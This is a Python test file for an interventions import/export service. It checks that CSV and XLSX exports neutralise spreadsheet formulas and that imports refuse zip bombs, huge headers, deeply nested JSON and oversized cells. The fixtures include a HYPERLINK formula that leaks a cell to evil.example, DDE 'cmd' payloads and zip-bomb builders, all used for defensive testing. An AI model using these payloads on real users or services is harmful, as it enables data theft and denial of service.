"""Issue 13, items 1–6: spreadsheets the service writes evaluate nothing, and imports refuse hostile files with a
clear 4xx (fast, before the expensive part), read Danish Excel's CSV, and report every problem in one answer."""

import csv
import http.client
import io
import json
import socket
import threading
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from app.models.interchange import COLUMN_HEADINGS
from app.services import interchange
from tests.conftest import make_token
from tests.factories import API, assert_problem, budget_line, create_intervention

URL = f"{API}/imports/interventions"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
# What a spreadsheet evaluates, and texts the neutralisation must keep exact (a quote of their own).
HOSTILE = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)"]
TRICKY = ["'=already quoted", "'plain apostrophe", "''=two quotes", "O'Brien"]


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _evaluated(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- 1. formula injection -------------------------------------------------------------------------------------


def test_budget_rollup_xlsx_holds_no_formula_and_the_text_is_exact(client):
    create_intervention(client, budget_lines=[budget_line(category=HYPERLINK)])
    response = client.get(f"{API}/rollups/budget", params={"by": "category", "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    [category] = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert category.value == HYPERLINK and category.data_type == "s" and category.quotePrefix


def test_budget_rollup_csv_neutralises_formulas(client):
    create_intervention(client, budget_lines=[budget_line(category=HYPERLINK)])
    response = client.get(f"{API}/rollups/budget", params={"by": "category", "format": "csv"})
    cells = [cell for row in _csv_rows(response.content) for cell in row]
    assert "'" + HYPERLINK in cells
    assert [c for c in cells if _evaluated(c) and not _number(c)] == []


def _hostile_interventions(client) -> None:
    for i, name in enumerate(HOSTILE + TRICKY):
        create_intervention(
            client,
            external_id=f"X-{i}",
            name=name,
            department="SOB",
            target_group=HOSTILE[i % len(HOSTILE)],
            budget_lines=[budget_line(category=HOSTILE[(i + 1) % len(HOSTILE)], note="-5")],
            success_criteria=[{"description": "@kommune", "indicator": 8, "baseline": "-3.5", "target": "-1"}],
        )


def test_interventions_csv_export_neutralises_and_imports_back_exactly(client):
    _hostile_interventions(client)
    response = client.get(f"{API}/exports/interventions", params={"format": "csv"})
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    header, data = rows[0], rows[1:]
    cells = [cell for row in data for cell in row]
    for text in HOSTILE:
        assert "'" + text in cells and text not in cells
    assert "''=already quoted" in cells and "'plain apostrophe" in cells and "O'Brien" in cells
    baseline = header.index("criterion_baseline")
    assert {row[baseline] for row in data} == {"-3.5"}  # a negative number stays a number, not text
    textual = [c for c in cells if _evaluated(c)]
    assert textual and all(_number(c) for c in textual), textual

    again = client.post(URL, content=response.content, headers={"content-type": "text/csv"})
    assert again.status_code == 200, again.text
    assert (again.json()["created"], again.json()["updated"], again.json()["unchanged"]) == (0, 0, 8)
    names = {i["name"] for i in client.get(f"{API}/interventions", params={"limit": 100}).json()["items"]}
    assert names == set(HOSTILE + TRICKY)


def test_interventions_xlsx_export_is_text_not_formulas_and_imports_back_exactly(client):
    _hostile_interventions(client)
    response = client.get(f"{API}/exports/interventions", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content))["Indsatser"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in HOSTILE:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found), text
    assert "''=already quoted" in [c.value for c in cells]  # the one text the import would otherwise unquote
    header = [c.value for c in next(sheet.iter_rows())]
    rows = [row for row in sheet.iter_rows(min_row=2) if not str(row[0].value).startswith("I alt")]
    baselines = {row[header.index(COLUMN_HEADINGS["criterion_baseline"])].value for row in rows}
    assert baselines == {-3.5}  # a number cell, as before
    again = client.post(URL, content=response.content, headers={"content-type": XLSX})
    assert again.status_code == 200, again.text
    assert again.json()["unchanged"] == 8


def test_the_template_and_indicator_report_write_text_cells(client):
    template = load_workbook(io.BytesIO(client.get(f"{API}/imports/interventions/template?format=xlsx").content))
    assert all(c.data_type != "f" for sheet in template for row in sheet.iter_rows() for c in row)
    assert _csv_rows(client.get(f"{API}/imports/interventions/template?format=csv").content)[0][0] == "external_id"


# --- 2. a header of 100,000 columns -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["colour", "name"])
def test_a_header_of_100000_columns_is_refused_at_once(client, name):
    header = "external_id,name,kind,department," + ",".join([name] * 100_000)
    body = (header + "\nA,B,project,BKF\n").encode()
    assert len(body) > 400_000
    started = time.perf_counter()
    problem = assert_problem(client.post(URL, content=body, headers={"content-type": "text/csv"}), 422)
    assert time.perf_counter() - started < 10
    assert problem["errors"][0]["row"] == 1
    assert "100,004 columns" in problem["detail"] and str(interchange.MAX_COLUMNS) in problem["detail"]


def test_a_wide_but_allowed_header_is_checked_in_one_pass(client):
    header = ["external_id", "name", "kind", "department"] + [f"x{i}" for i in range(150)] + ["name"]
    body = (",".join(header) + "\nA,B,project,BKF\n").encode()
    problem = assert_problem(client.post(URL, content=body, headers={"content-type": "text/csv"}), 422)
    columns = [e["column"] for e in problem["errors"]]
    assert columns.count("name") == 1 and len([c for c in columns if c.startswith("x")]) == 150
    assert "columns 2 and 155" in str(problem["errors"])


# --- 3. XLSX zip bombs ------------------------------------------------------------------------------------------


def _workbook() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "interventions"
    sheet.append(["external_id", "name", "kind", "department"])
    sheet.append(["X-1", "Bombe", "project", "SOB"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _deflated(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def _rewrite(content: bytes, change) -> bytes:
    """The workbook with its parts passed through change(name, data, archive) (which writes them)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            change(info.filename, src.read(info), dst)
    return out.getvalue()


def test_an_xlsx_whose_sheet_unpacks_hugely_is_refused_before_parsing(client):
    def pad(name, data, dst):
        if name != "xl/worksheets/sheet1.xml":
            dst.writestr(name, data)
            return
        head, tail = data.split(b"<sheetData>", 1)
        with dst.open(_deflated(name), "w") as part:  # ~100 MB of blanks between the XML's elements
            part.write(head + b"<sheetData>")
            chunk = b" " * (1024 * 1024)
            for _ in range(100):
                part.write(chunk)
            part.write(tail)

    bomb = _rewrite(_workbook(), pad)
    assert len(bomb) < 1_000_000
    started = time.perf_counter()
    problem = assert_problem(client.post(URL, content=bomb, headers={"content-type": XLSX}), 413)
    assert time.perf_counter() - started < 5
    assert "sheet1.xml" in problem["detail"] and "zip bomb" in problem["detail"]


def test_an_xlsx_unpacking_beyond_the_limit_is_refused(client):
    def many(name, data, dst):
        dst.writestr(name, data)
        if name == "xl/worksheets/sheet1.xml":
            block = b"\0" * (9 * 1024 * 1024)  # each part under the ratio check's floor
            for i in range(interchange.MAX_XLSX_UNPACKED_BYTES // len(block) + 1):
                dst.writestr(_deflated(f"xl/media/filler{i}.bin"), block, compresslevel=1)

    bomb = _rewrite(_workbook(), many)
    problem = assert_problem(client.post(URL, content=bomb, headers={"content-type": XLSX}), 413)
    assert f"{interchange.MAX_XLSX_UNPACKED_BYTES:,}" in problem["detail"]
    assert problem["limit_bytes"] == interchange.MAX_XLSX_UNPACKED_BYTES


def test_an_xlsx_declaring_more_cells_than_the_limit_is_refused(client):
    def widen(name, data, dst):
        if name == "xl/worksheets/sheet1.xml":
            data = data.replace(b'<dimension ref="A1:D2"/>', b'<dimension ref="A1:XFD1048576"/>')
            assert b"XFD1048576" in data
        dst.writestr(name, data)

    problem = assert_problem(
        client.post(URL, content=_rewrite(_workbook(), widen), headers={"content-type": XLSX}), 413
    )
    assert "17,179,869,184 cells" in problem["detail"]
    assert client.post(URL, content=_workbook(), headers={"content-type": XLSX}).json()["created"] == 1


# --- 4. 500s ------------------------------------------------------------------------------------------------


DEEP = b"[" * 100_000 + b"]" * 100_000


def test_a_deeply_nested_json_import_is_a_422(client):
    problem = assert_problem(client.post(URL, content=DEEP, headers={"content-type": "application/json"}), 422)
    assert "too deeply" in problem["errors"][0]["msg"]


@pytest.mark.parametrize("path", ["/interventions", "/pools", "/tokens"])
def test_a_deeply_nested_json_body_is_a_4xx_anywhere(client, path):
    response = client.post(API + path, content=DEEP, headers={"content-type": "application/json"})
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "deep" in response.json()["detail"]  # the message names what may be wrong


def test_a_csv_cell_over_the_field_limit_is_a_422(client):
    text = "external_id,name,kind,department,description\nA,B,project,BKF,ok\nC,D,project,BKF," + "x" * 140_000
    problem = assert_problem(client.post(URL, content=text.encode(), headers={"content-type": "text/csv"}), 422)
    assert problem["errors"][0]["row"] == 3
    assert "131,072 characters" in problem["errors"][0]["msg"]


@pytest.fixture
def live_server():
    """The app on a real uvicorn in this process (so a test can make a route fail), on a free port."""
    import uvicorn

    from app.main import app

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="critical", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    for _ in range(200):
        if server.started:
            break
        time.sleep(0.05)
    yield port
    server.should_exit = True
    thread.join(timeout=10)


def test_a_500_keeps_the_keep_alive_connection(live_server, admin_token, monkeypatch):
    from app.services import reference

    def broken(session):
        raise RuntimeError("a bug")

    monkeypatch.setattr(reference, "get_framework", broken)
    connection = http.client.HTTPConnection("127.0.0.1", live_server, timeout=10)
    headers = {"Authorization": f"Bearer {admin_token}"}
    connection.request("GET", f"{API}/framework", headers=headers)
    failed = connection.getresponse()
    body = json.loads(failed.read())
    assert failed.status == 500 and body["type"] == "/problems/internal"
    assert failed.getheader("connection", "keep-alive").lower() != "close"
    sock = connection.sock
    assert sock is not None
    connection.request("GET", "/health")
    again = connection.getresponse()
    again.read()
    assert again.status == 200 and connection.sock is sock  # the same connection, not a new one
    connection.close()


# --- 5. Danish Excel's CSV ----------------------------------------------------------------------------------

DANISH = (
    "external_id;name;kind;status;department;areas;themes;start_date;end_date;"
    "budget_year;budget_category;budget_funding_source;budget_amount;budget_note\r\n"
    "BKF-1;Styrket indsats i Mørkhøj – æøå ÆØÅ;programme;completed;BKF;moerkhoej;T4, T6;01-01-2019;31-12-2022;"
    "2019;Løn;SOB-PULJE;143.750,00;Indsats € 1\r\n"
    "BKF-1;;;;;;;;;2020;Aktivitetsudgifter;SOB-PULJE;575.000;\r\n"
)


@pytest.mark.parametrize(
    "content,encoding",
    [
        (DANISH.encode("cp1252"), "windows-1252"),
        (DANISH.encode("utf-8"), "utf-8"),
        (b"\xef\xbb\xbf" + DANISH.encode("utf-8"), "utf-8"),
    ],
)
def test_csv_in_windows_1252_and_utf_8_is_read_and_the_report_says_which(client, content, encoding):
    report = client.post(URL, content=content, headers={"content-type": "text/csv"})
    assert report.status_code == 200, report.text
    assert report.json()["encoding"] == encoding
    item = client.get(f"{API}/interventions/{report.json()['items'][0]['id']}").json()
    assert item["name"] == "Styrket indsats i Mørkhøj – æøå ÆØÅ"
    assert [(b["amount"], b["note"]) for b in item["budget_lines"]] == [
        ("143750.00", "Indsats € 1"),
        ("575000.00", None),
    ]


def test_the_command_line_client_sends_a_windows_1252_csv_too(client):
    from app import client as api

    outcome = api.import_file(client, DANISH.encode("cp1252"), "csv", sleep=lambda _s: None)
    assert (outcome.created, outcome.problems, outcome.messages) == (1, [], [])
    [item] = client.get(f"{API}/interventions", params={"external_id": "BKF-1"}).json()["items"]
    assert item["name"] == "Styrket indsats i Mørkhøj – æøå ÆØÅ"


def test_a_file_level_problem_names_no_row_none(client):
    problem = assert_problem(client.post(URL, json={"not": "an array"}), 422)
    assert "None" not in problem["detail"] and problem["errors"][0]["row"] is None


def test_the_amount_message_is_true_for_a_semicolon_csv(client):
    bad = DANISH.replace("575.000", "575 kroner")
    problem = assert_problem(client.post(URL, content=bad.encode("cp1252"), headers={"content-type": "text/csv"}), 422)
    [error] = problem["errors"]
    assert (error["row"], error["column"]) == (3, "budget_amount")
    assert "decimal separator" not in error["msg"] and "1250,50" in error["msg"]
    assert problem["encoding"] == "windows-1252"


# --- 6. every problem at once -------------------------------------------------------------------------------


def test_every_stage_of_problems_is_reported_in_one_answer(client):
    client.post(URL, json=[{"external_id": "SSF-OLD", "name": "Andres", "kind": "project", "department": "SSF"}])
    bkf = {"Authorization": f"Bearer {make_token('editor', 'BKF')}"}
    text = (
        "external_id;name;kind;department;themes;farve;budget_year;budget_category;budget_funding_source;budget_amount\r\n"
        "B-1;Godt navn;project;BKF;T4;rød;2020;Løn;SOB-PULJE;100\r\n"  # 2: fine
        "B-2;Ukendte koder;nope;NOPE;T99;;2020;Løn;KASSE;100\r\n"  # 3: kind invalid, department/theme/source unknown
        "B-2;Andet navn;;;;;2021;Løn;SOB-PULJE;1,234,5\r\n"  # 4: differs from row 3; ambiguous amount
        ";Uden nøgle;project;BKF;;;;;;\r\n"  # 5: no external_id
        "SSF-OLD;Overtaget;project;BKF;T4;;;;;\r\n"  # 6: another department's intervention
        "S-3;Forkert forvaltning;project;SSF;T99;;;;;\r\n"  # 7: another department, unknown theme
    )
    problem = assert_problem(client.post(URL, content=text.encode(), headers={"content-type": "text/csv", **bkf}), 422)
    found = {(e["row"], e["column"]) for e in problem["errors"]}
    assert {
        (1, "farve"),  # shape: unknown column
        (3, "kind"),  # field
        (3, "department"),  # code NOPE
        (3, "themes"),  # code T99
        (3, "budget_funding_source"),  # code KASSE
        (4, "name"),  # shape: differs from row 3
        (4, "budget_amount"),  # shape: ambiguous amount
        (5, "external_id"),  # shape: no key
        (6, "department"),  # permission: SSF's intervention
        (7, "department"),  # permission
        (7, "themes"),  # code T99 in a record otherwise valid
    } <= found, found
    messages = str(problem["errors"])
    assert "NOPE" in messages and "T99" in messages and "KASSE" in messages and "may not import" in messages
    assert problem["problem_count"] == len(problem["errors"])
    assert client.get(f"{API}/interventions", params={"external_id": "B-1"}).json()["items"] == []


def test_a_file_whose_only_problem_is_permission_is_still_a_403(client):
    bkf = {"Authorization": f"Bearer {make_token('editor', 'BKF')}"}
    records = [{"external_id": "S-1", "name": "Andres", "kind": "project", "department": "SSF"}]
    problem = assert_problem(client.post(URL, json=records, headers=bkf), 403)
    assert problem["errors"][0]["row"] == 1


def test_json_records_with_problems_of_every_stage_in_one_answer(client):
    records = [
        {"external_id": "J-1", "name": "", "kind": "project", "department": "NOPE", "themes": ["T99"]},
        {"external_id": "J-2", "name": "Ok", "kind": "project", "department": "BKF", "parent_external_id": "J-9"},
        {
            "external_id": "J-3",
            "name": "Ok",
            "kind": "project",
            "department": "BKF",
            "budget_lines": [{"year": 2020, "category": "Løn", "funding_source": "KASSE", "amount": "x"}],
        },
    ]
    problem = assert_problem(client.post(URL, json=records), 422)
    found = {(e["row"], e["column"]) for e in problem["errors"]}
    assert {
        (1, "name"),
        (1, "department"),
        (1, "themes.0"),
        (2, "parent_external_id"),
        (3, "budget_lines.0.amount"),
        (3, "budget_lines.0.funding_source"),
    } <= found, found


def test_a_status_the_lifecycle_refuses_comes_in_the_same_answer_as_the_other_problems(client):
    first = {"external_id": "L-1", "name": "Værksted", "kind": "project", "status": "idea", "department": "SOB"}
    assert client.post(URL, json=[first]).status_code == 200
    records = [{**first, "status": "anchored"}, {**first, "external_id": "L-2", "themes": ["T99"]}]
    problem = assert_problem(client.post(URL, json=records), 422)
    assert {(e["row"], e["column"]) for e in problem["errors"]} == {(1, "status"), (2, "themes.0")}
